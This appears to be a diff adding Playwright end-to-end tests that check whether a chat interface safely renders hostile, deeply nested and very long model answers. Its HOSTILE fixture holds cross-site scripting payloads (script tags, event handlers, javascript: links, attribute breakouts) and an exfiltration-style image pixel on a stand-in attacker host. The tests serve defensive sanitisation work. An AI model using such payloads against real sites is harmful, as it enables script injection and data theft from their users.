@@ -1,0 +1,113 @@
+"""What a model writes on the page: hostile, long, and everything that Markdown can hold."""
+
+import re
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from tests.e2e.conftest import MARKDOWN, OpenBrowser, answer, ask, expect_complete, field
+
+pytestmark = [pytest.mark.browser, pytest.mark.product, pytest.mark.xdist_group("browser")]
+
+HOSTILE = """<script>window.hacked = 1</script><img src="https://evil.example/a.png" onerror="window.hacked = 1">
+
+![remote](https://evil.example/pixel.png?secret=1) ![data](data:image/svg+xml,<svg onload="window.hacked=1"/>)
+
+[click](javascript:window.hacked=1) [odd](JaVaScRiPt&colon;window.hacked=1) <a href="javascript:window.hacked=1">x</a>
+
+[fine](https://example.org/) <iframe src="https://evil.example/"></iframe> <style>body{display:none}</style>
+
+$\\href{javascript:window.hacked=1}{x}$ and `<svg onload=window.hacked=1>`
+
+[1](https://evil.example "t\\" onmouseover=\\"window.hacked=1")
+
+"""
+NESTED = "[" * 5_000 + "\n\n" + "> " * 3_000 + "deep\n\n" + "".join("  " * depth + "- deeper\n" for depth in range(400))
+
+
+def test_what_is_hostile_is_text_and_asks_for_nothing(visit: OpenBrowser) -> None:
+    """Every page of these tests is watched for requests to other hosts and for what its policy had to refuse."""
+    page = visit().sign_in()
+    ask(page, "Attack", text=HOSTILE, interval=0.001)
+    expect_complete(page)
+    for _ in ("streamed", "loaded"):
+        prose = answer(page).locator(".prose")
+        assert prose.locator("img, script, iframe, style, svg, [onerror], [onload], [onmouseover]").count() == 0
+        links = prose.locator("a").evaluate_all("all => all.map(each => [each.href, each.target, each.rel])")
+        assert links
+        for href, target, rel in links:
+            assert re.match(r"https://(evil\.example|example\.org)/", href), href
+            assert target == "_blank" and "noopener" in rel and "noreferrer" in rel
+        expect(prose).to_contain_text("Image: remote — evil.example")
+        assert page.evaluate("window.hacked") is None
+        page.reload()
+
+
+def test_huge_nesting_is_shown_and_the_page_still_works(page: Page) -> None:
+    ask(page, "Nest", text=NESTED, interval=0)
+    expect_complete(page)
+    expect(answer(page).locator(".prose")).to_contain_text("[[[[")
+    ask(page, "Still there?", text="Yes.")
+    expect(answer(page, 1)).to_contain_text("Yes.")
+
+
+def test_a_question_is_text_whatever_it_holds(page: Page) -> None:
+    ask(page, f"{HOSTILE}\n", text="Well.")
+    expect_complete(page)
+    said = page.locator("article.question .said")
+    expect(said).to_contain_text("<script>window.hacked = 1</script>")
+    assert said.locator("a, img, script").count() == 0
+    assert page.evaluate("window.hacked") is None
+
+
+def test_a_long_answer_streams_whole_and_the_page_stays_at_its_end(page: Page) -> None:
+    text = "".join(f"## Part {number}\n\n{'word ' * 60}\n\n" for number in range(160))
+    assert len(text) > 50_000
+    ask(page, "Long", text=text, interval=0.0005)
+    scroller = page.locator("#transcript")
+    expect(answer(page).get_by_role("heading", name="Part 40", exact=True)).to_be_attached()
+    assert scroller.evaluate("each => each.scrollTop") == 0  # its newest end
+    expect_complete(page)
+    expect(answer(page).locator(".block")).to_have_count(320)
+    assert scroller.evaluate("each => each.scrollTop") == 0
+    blocks = answer(page).locator(".block").evaluate_all("all => all.map(each => each.innerHTML)")
+    page.reload()
+    assert answer(page).locator(".block").evaluate_all("all => all.map(each => each.innerHTML)") == blocks
+
+
+def test_who_has_scrolled_up_stays_there(page: Page) -> None:
+    ask(page, "Long", text="".join(f"Paragraph {number}.\n\n" for number in range(400)), interval=0.005)
+    expect(answer(page)).to_contain_text("Paragraph 60.")
+    scroller = page.locator("#transcript")
+    scroller.evaluate("each => { each.scrollTop = -600 }")
+    expect(page.get_by_role("button", name="Newest")).to_be_visible()
+    paragraph = answer(page).get_by_text("Paragraph 40.", exact=True)
+    before = paragraph.evaluate("each => each.getBoundingClientRect().top")
+    expect(answer(page)).to_contain_text("Paragraph 200.")
+    assert abs(paragraph.evaluate("each => each.getBoundingClientRect().top") - before) < 2
+    page.get_by_role("button", name="Newest").click()
+    assert scroller.evaluate("each => each.scrollTop") == 0
+    page.get_by_role("button", name="Stop the answer").click()
+    expect(answer(page)).to_have_attribute("data-status", "stopped")
+
+
+def test_everything_that_markdown_can_hold_is_shown_on_a_phone(visit: OpenBrowser) -> None:
+    page = visit(viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True, color_scheme="dark").sign_in()
+    wide = "| " + " | ".join(f"a rather long column {number}" for number in range(12)) + " |\n"
+    table = wide + "|" + "---|" * 12 + "\n" + wide
+    ask(
+        page,
+        "All",
+        text=f"{MARKDOWN}\n{table}\nIt is $E = mc^2$.\n\n$$\\frac{{1}}{{2}}$$\n\n- [x] done\n- [ ] open\n",
+    )
+    expect_complete(page)
+    expect(answer(page).locator("math")).to_have_count(2)
+    assert answer(page).locator("mfrac").bounding_box()
+    boxes = answer(page).get_by_role("checkbox")
+    expect(boxes.nth(0)).to_be_checked()
+    expect(boxes.nth(1)).not_to_be_checked()
+    expect(answer(page).locator(".code .lang")).to_have_text("python")
+    last = answer(page).locator(".table").last
+    assert last.evaluate("each => each.scrollWidth > each.clientWidth")  # it scrolls, and the page does not
+    assert page.locator("#transcript").evaluate("each => each.scrollWidth <= each.clientWidth")
+    expect(field(page)).to_be_visible()
